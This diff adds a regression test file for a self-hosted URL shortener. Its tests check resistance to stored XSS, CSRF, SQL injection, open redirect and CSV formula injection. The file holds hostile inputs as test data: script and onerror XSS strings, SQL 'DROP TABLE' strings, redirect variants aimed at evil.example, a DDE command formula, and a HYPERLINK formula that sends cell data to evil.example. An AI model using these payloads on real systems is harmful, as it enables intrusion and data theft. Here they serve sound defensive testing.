@@ -1,0 +1,195 @@
+import { parse as parseCsv } from 'csv-parse/sync';
+import test from 'ava';
+import { ADMIN_PASSWORD, BROWSER_ACCEPT, BROWSER_UA, cookiesOf, csrfOf, startKurz } from '../helpers.ts';
+import { escapeHtml, pageText, rawRequest } from '../support/hostile.ts';
+import { browser } from './ui-session.ts';
+
+/**
+ * One regression test per kind of flaw published against other self-hosted shorteners, named after it. The
+ * references are the reports found; the same kinds were reported against many more projects.
+ */
+
+type LinkBody = Record<string, unknown> & { code: string };
+
+test('stored XSS through a link target or title (as in YOURLS issues #27 and #1079): every page shows them as text', async (t) => {
+  const k = await startKurz(t);
+  // YOURLS #27: a target ending in "><script>; #1079: a target breaking out of an attribute.
+  const target = (await (await k.postJson('/api/v1/links', { url: 'https://example.com/"><script>alert(1)</script>' })).json()) as LinkBody;
+  t.is(target['url'], 'https://example.com/%22%3E%3Cscript%3Ealert(1)%3C/script%3E', 'the target is stored percent-encoded');
+  const attribute = await k.postJson('/api/v1/links', { url: 'http;//"onmousemove="alert(1)"' });
+  t.is(attribute.status, 400, 'a target that is no absolute URL is refused');
+  const payload = '"><script>alert(1)</script><img src=x onerror=alert(2)>';
+  const titled = (await (
+    await k.postJson('/api/v1/links', { url: 'https://example.com/t', title: payload, note: payload, alias: 'titled' })
+  ).json()) as LinkBody;
+  t.is(titled['title'], payload, 'the title is stored exactly');
+  await rawRequest(k.base, 'GET', '/titled', { 'user-agent': BROWSER_UA, referer: 'http://x"onmouseover=alert(3)/' });
+  await k.flushVisits();
+  const b = await browser(k);
+  for (const path of ['/', '/links', `/links/${target.code}`, '/links/titled', '/links/titled/stats', '/links?q=script']) {
+    const res = await b.get(path);
+    const html = await res.text();
+    t.is(res.status, 200, path);
+    t.notRegex(html, /<script>alert|<img src=x|onmouseover=alert\(3\)"/, `${path}: a payload is markup`);
+    t.regex(res.headers.get('content-security-policy') ?? '', /script-src 'self';/, `${path}: no inline script would run anyway`);
+  }
+  t.true((await (await b.get('/links/titled')).text()).includes(escapeHtml(payload)), 'shown as text');
+  t.true(pageText(await (await b.get('/links/titled/stats')).text()).includes('x"onmouseover=alert(3)'), 'the referrer shown as text');
+  // A script: target could run on the page that shows it; it is never accepted, on creation or edit.
+  t.is((await k.postJson('/api/v1/links', { url: 'javascript:alert(1)' })).status, 400);
+  t.is((await k.request('PATCH', '/api/v1/links/titled', { url: 'JaVaScRiPt:alert(1)' })).status, 400);
+});
+
+test('CSRF on admin actions (as in YOURLS, CVE-2022-0088): no state-changing form acts without its token, and the API takes no form', async (t) => {
+  const k = await startKurz(t);
+  await k.postJson('/api/v1/links', { url: 'https://example.com/x', alias: 'x' });
+  await k.kurz.services.access.createKey('ci');
+  const b = await browser(k);
+  const stranger = await browser(k, false);
+  const forged = csrfOf(await (await stranger.get('/login')).text());
+  const actions: Array<[string, string, Record<string, string>]> = [
+    ['create a link', '/', { url: 'https://evil.example/', enabled: 'true' }],
+    ['edit a link', '/links/x', { url: 'https://evil.example/', enabled: 'true' }],
+    ['disable a link', '/links/x/state', { enabled: 'false' }],
+    ['delete a link', '/links/x/delete', {}],
+    ['bulk-create links', '/import', { urls: 'https://evil.example/1\nhttps://evil.example/2' }],
+    ['create an API key', '/keys', { name: 'attacker' }],
+    ['revoke an API key', '/keys/revoke', { name: 'ci' }],
+    ['log out', '/logout', {}],
+  ];
+  const state = async () => ({
+    link: await (await k.get('/api/v1/links/x')).text(),
+    links: await k.linkCount(),
+    keys: JSON.stringify(await k.kurz.services.access.listKeys()),
+    loggedIn: (await b.get('/settings')).status,
+  });
+  const before = await state();
+  for (const [action, path, fields] of actions) {
+    for (const [how, token] of [
+      ['without a token', undefined],
+      ['with a token of another browser', forged],
+      ['with a made-up token', 'A'.repeat(43)],
+    ] as const) {
+      const res = await b.post(path, token === undefined ? fields : { ...fields, _csrf: token });
+      t.is(res.status, 403, `${action} ${how}`);
+    }
+  }
+  t.deepEqual(await state(), before, 'nothing changed, and the session is still open');
+  // A cross-site page can post a form or text, never JSON: the API refuses both, even with the session's cookie.
+  for (const [type, body] of [
+    ['text/plain', '{"url":"https://evil.example/"}'],
+    ['application/x-www-form-urlencoded', 'url=https%3A%2F%2Fevil.example%2F'],
+    ['multipart/form-data; boundary=b', '--b\r\ncontent-disposition: form-data; name="url"\r\n\r\nhttps://evil.example/\r\n--b--\r\n'],
+  ]) {
+    const res = await fetch(`${k.base}/api/v1/links`, { method: 'POST', headers: { cookie: b.cookie, 'content-type': type }, body });
+    t.is(res.status, 415, type);
+  }
+  t.deepEqual(await state(), before);
+  // The password is changed only by `kurz admin password`, on the machine: no form changes it.
+  t.is((await b.post('/settings', {})).status, 405);
+});
+
+test('SQL injection through sort or search (as reported in the sort and search parameters of many PHP shorteners): an unknown sort is a 400, a search is literal', async (t) => {
+  const k = await startKurz(t);
+  const titles = ['100% sure', 'snake_case', "O'Brien", 'back\\slash', 'plain'];
+  for (const [i, title] of titles.entries()) await k.postJson('/api/v1/links', { url: `https://example.com/s${i}`, title });
+  const found = async (q: string) =>
+    ((await (await k.get(`/api/v1/links?q=${encodeURIComponent(q)}`)).json()) as { links: LinkBody[] }).links.map((l) => l['title']);
+  t.deepEqual(await found('%'), ['100% sure']);
+  t.deepEqual(await found('_'), ['snake_case']);
+  t.deepEqual(await found("'"), ["O'Brien"]);
+  t.deepEqual(await found('\\'), ['back\\slash']);
+  t.deepEqual(await found("' OR '1'='1"), []);
+  t.deepEqual(await found('%" OR 1=1 --'), []);
+  t.deepEqual(await found("x'); DROP TABLE links; --"), []);
+  const b = await browser(k);
+  for (const sort of ['created;DROP TABLE links', 'id', 'created DESC, (SELECT 1)', '(CASE WHEN 1=1 THEN created END)', 'visits--']) {
+    const api = await k.get(`/api/v1/links?sort=${encodeURIComponent(sort)}`);
+    t.is(api.status, 400, sort);
+    t.like(await api.json(), { detail: 'sort must be one of created, visits', field: 'sort' });
+    t.is((await b.get(`/links?sort=${encodeURIComponent(sort)}`)).status, 400, `page: ${sort}`);
+  }
+  t.is((await b.get(`/links?q=${encodeURIComponent("' OR 1=1 --")}`)).status, 200);
+  t.is(await k.linkCount(), titles.length, 'every link is still there');
+});
+
+test('open redirect through the login return parameter (as reported against many login pages): after the login you land on kurz', async (t) => {
+  const k = await startKurz(t);
+  await k.login();
+  const cases: Array<[string, string]> = [
+    ['https://evil.example/', '/'],
+    ['//evil.example/', '/'],
+    ['/\\evil.example', '/'],
+    ['\\\\evil.example', '/'],
+    ['/.//evil.example', '/'],
+    ['/%2e//evil.example', '/'],
+    ['/a/..//evil.example', '/'],
+    ['javascript:alert(document.cookie)', '/'],
+    ['data:text/html,<script>alert(1)</script>', '/'],
+    ['/\t/evil.example', '/'],
+    ['///evil.example', '/'],
+    ['https:evil.example', '/'],
+    ['/links?q=a', '/links?q=a'],
+  ];
+  for (const [next, expected] of cases) {
+    const page = await fetch(`${k.base}/login?next=${encodeURIComponent(next)}`, { headers: { accept: BROWSER_ACCEPT } });
+    const html = await page.text();
+    const jar = cookiesOf(page);
+    const res = await fetch(`${k.base}/login`, {
+      method: 'POST',
+      headers: { cookie: jar, 'content-type': 'application/x-www-form-urlencoded', accept: BROWSER_ACCEPT },
+      body: new URLSearchParams({ _csrf: csrfOf(html), user: 'admin', password: ADMIN_PASSWORD, next }),
+      redirect: 'manual',
+    });
+    t.is(res.status, 303, next);
+    t.is(res.headers.get('location'), expected, next);
+    // Logged in already, the login page sends you on at once: the same rule.
+    const again = await fetch(`${k.base}/login?next=${encodeURIComponent(next)}`, {
+      headers: { cookie: cookiesOf(res, jar) },
+      redirect: 'manual',
+    });
+    t.is(again.headers.get('location'), expected, `logged in: ${next}`);
+  }
+});
+
+test('formula injection in exports (CSV injection): no cell of a links or visits export starts a formula, and it reads back exactly', async (t) => {
+  const k = await startKurz(t);
+  const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', "'quoted"];
+  for (const [i, text] of formulas.entries()) {
+    await k.postJson('/api/v1/links', { url: `https://example.com/f${i}`, alias: `f${i}`, title: text, note: text });
+  }
+  await k.postJson('/api/v1/links', { url: 'https://example.com/minus', alias: '-12' });
+  for (const referer of ['http://=HYPERLINK("x")/', 'http://-2+3/', 'http://@sum(1)/']) {
+    await rawRequest(k.base, 'GET', '/f0', { 'user-agent': BROWSER_UA, referer });
+  }
+  await rawRequest(k.base, 'GET', '/f0', { 'user-agent': '=cmd|calc' });
+  await k.flushVisits();
+  for (const what of ['links', 'visits']) {
+    const csv = await (await k.get(`/api/v1/export?what=${what}&format=csv`)).text();
+    const rows = parseCsv(csv) as string[][];
+    t.true(rows.length > 1, what);
+    for (const cell of rows.flat()) t.notRegex(cell, /^[=+\-@\t\r]/, `${what}: ${cell}`);
+  }
+  const links = parseCsv(await (await k.get('/api/v1/export?what=links&format=csv')).text(), { columns: true }) as Array<
+    Record<string, string>
+  >;
+  for (const [i, text] of formulas.entries()) {
+    t.is(links.find((l) => l['code'] === `f${i}`)?.['title'], `'${text}`, 'a leading quote makes it text');
+  }
+  t.truthy(
+    links.find((l) => l['code'] === "'-12"),
+    'the code of alias -12 too',
+  );
+  const visits = parseCsv(await (await k.get('/api/v1/export?what=visits&format=csv')).text(), { columns: true }) as Array<
+    Record<string, string>
+  >;
+  t.deepEqual(
+    visits
+      .map((v) => v['referrer'])
+      .filter(Boolean)
+      .sort(),
+    ["'-2+3", '\'=hyperlink("x")', 'sum(1)'],
+  );
+  // `kurz export` writes the same cells, and `kurz import` reads them back exactly: test/cli/transfer.test.ts,
+  // "CSV export is safe to open in a spreadsheet and still reads back exactly".
+});
